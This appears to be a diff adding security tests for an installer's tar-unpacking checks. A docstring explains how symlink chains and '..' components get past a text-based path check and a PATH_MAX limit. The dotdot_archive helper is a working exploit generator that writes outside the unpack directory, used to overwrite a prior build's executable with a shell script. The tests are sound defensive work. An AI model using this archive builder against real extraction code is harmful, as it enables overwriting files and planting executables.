@@ -1,0 +1,119 @@
+"""Second review: the archive checks of unpack.py.
+
+_refusal() normalizes a path before asking whether it passes through a symlink of the archive's own
+(unpack.py:63, :73-74): "L/../X" becomes "X", so the symlink L is never seen. The kernel does not normalize: it
+follows L first, then climbs from where L leads. With that, short names build a real directory path longer than
+PATH_MAX (os.path.realpath in the `data` filter then stops resolving links, CVE-2025-4517, Python 3.11.7 here), and
+a chain of links `m_k -> m_{k-1}/..` (each "stays inside" as text) climbs out. A regular file member with the same
+name as an earlier symlink (unpack.py only checks a name's *ancestors* against the links) is then written through
+it: open("wb") follows the link and truncates whatever it points at."""
+
+from __future__ import annotations
+
+import io
+import tarfile
+from pathlib import Path
+
+from llmgw.agent.installs.recipes import install
+from llmgw.agent.installs.unpack import check_members, unpack
+from tests.agent.installs.attack_fakes import fake_archive, fake_server_script
+from tests.agent.installs.release import Release, release_server
+from tests.agent.installs.test_install import context, publish
+
+D = "d" * 240
+FOUR = "/".join([D] * 4)
+
+
+def _sym(tar: tarfile.TarFile, name: str, target: str) -> None:
+    i = tarfile.TarInfo(name)
+    i.type, i.linkname = tarfile.SYMTYPE, target
+    tar.addfile(i)
+
+
+def _dir(tar: tarfile.TarFile, name: str) -> None:
+    i = tarfile.TarInfo(name)
+    i.type, i.mode = tarfile.DIRTYPE, 0o755
+    tar.addfile(i)
+
+
+def _file(tar: tarfile.TarFile, name: str, data: bytes) -> None:
+    i = tarfile.TarInfo(name)
+    i.size, i.mode = len(data), 0o755
+    tar.addfile(i, io.BytesIO(data))
+
+
+def dotdot_archive(up: int, outside: str, payload: bytes, levels: int = 6, t: int = 4) -> bytes:
+    """Every name and link target <= 1024 bytes and <= 5 deep as text; `esc` really points at `up` levels above
+    the unpack directory, then `outside`, and the last member writes `payload` through it."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
+        _dir(tar, FOUR)
+        _sym(tar, "L1", FOUR)
+        for k in range(2, levels + 1):  # L_k -> L_{k-1}/../D/D/D/D: three directories deeper each time
+            _dir(tar, f"L{k-1}/../{FOUR}")
+            _sym(tar, f"L{k}", f"L{k-1}/../{FOUR}")
+        real = 4 + 3 * (levels - 1) - 1 + t  # 19 directories of 241 bytes: past PATH_MAX once resolved
+        mdir = f"L{levels}/../" + "/".join([D] * t)  # really `real` deep; as text, t deep
+        _dir(tar, mdir)
+        _sym(tar, f"{mdir}/m1", "../" * t)
+        n = 1
+        while real - t * n + up > t + 1:  # m_n -> m_{n-1}/../../../..: really t levels higher each; as text "D"
+            n += 1
+            _sym(tar, f"{mdir}/m{n}", f"m{n-1}/" + "../" * t)
+        u = real - t * n + up  # as text this stays inside: m_n/ plus at most t+1 '..'
+        assert 0 <= u <= t + 1
+        _sym(tar, "esc", f"{mdir}/m{n}/" + "../" * u + outside)
+        _file(tar, "esc", payload)  # not "through" a link: it *is* one; open("wb") follows it
+    return buf.getvalue()
+
+
+def test_the_text_check_accepts_a_name_through_a_symlink_followed_by_dotdot() -> None:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        _dir(tar, "a")
+        _sym(tar, "a/x", "..")  # a/x is the top
+        _file(tar, "a/x/../y", b"")  # the kernel writes <top>/../y; as text it is a/y
+    buf.seek(0)
+    with tarfile.open(fileobj=buf) as tar:
+        members = tar.getmembers()
+    refused = ""
+    try:
+        check_members(members)
+    except Exception as e:
+        refused = str(e)
+    assert refused, "a member path through the archive's own symlink 'a/x' passed the check"
+
+
+async def test_a_hostile_archive_rewrites_the_previous_builds_executable(tmp_path: Path) -> None:
+    with release_server(Release()) as rel:
+        ctx = context(tmp_path / "engines")
+        b1 = publish(rel, "b1", fake_archive("b1", fake_server_script()))
+        st = await install(ctx, b1, b1.variants[0], lambda w: None)
+        server = Path(st.path)
+        before = server.read_bytes()
+        # from .staging-b2-cpu-x86_64, ".." is <root>/llamacpp
+        b2 = publish(rel, "b2", dotdot_archive(1, "b1-cpu-x86_64/llama-b1/llama-server", b"#!/bin/sh\necho owned\n"))
+        try:
+            await install(ctx, b2, b2.variants[0], lambda w: None)
+        except Exception as e:
+            print("\nb2 refused as:", getattr(e, "reason", type(e).__name__), str(e)[:150])
+        after = server.read_bytes()
+        assert after == before, f"b2's archive rewrote b1's {server}: now {after!r}"
+
+
+async def test_a_hostile_archive_writes_outside_the_install_root(tmp_path: Path) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("original\n")
+    staging = tmp_path / "node" / "engines" / "llamacpp" / ".staging-b2-cpu-x86_64"
+    staging.mkdir(parents=True)
+    try:
+        await unpack(_write(tmp_path, dotdot_archive(4, "victim.txt", b"owned\n")), staging, 1 << 30)
+    except Exception as e:
+        print("\nrefused as:", getattr(e, "reason", type(e).__name__), str(e)[:150])
+    assert victim.read_text() == "original\n", f"{victim} written from inside the archive"
+
+
+def _write(d: Path, data: bytes) -> Path:
+    p = d / "a.tar.gz"
+    p.write_bytes(data)
+    return p
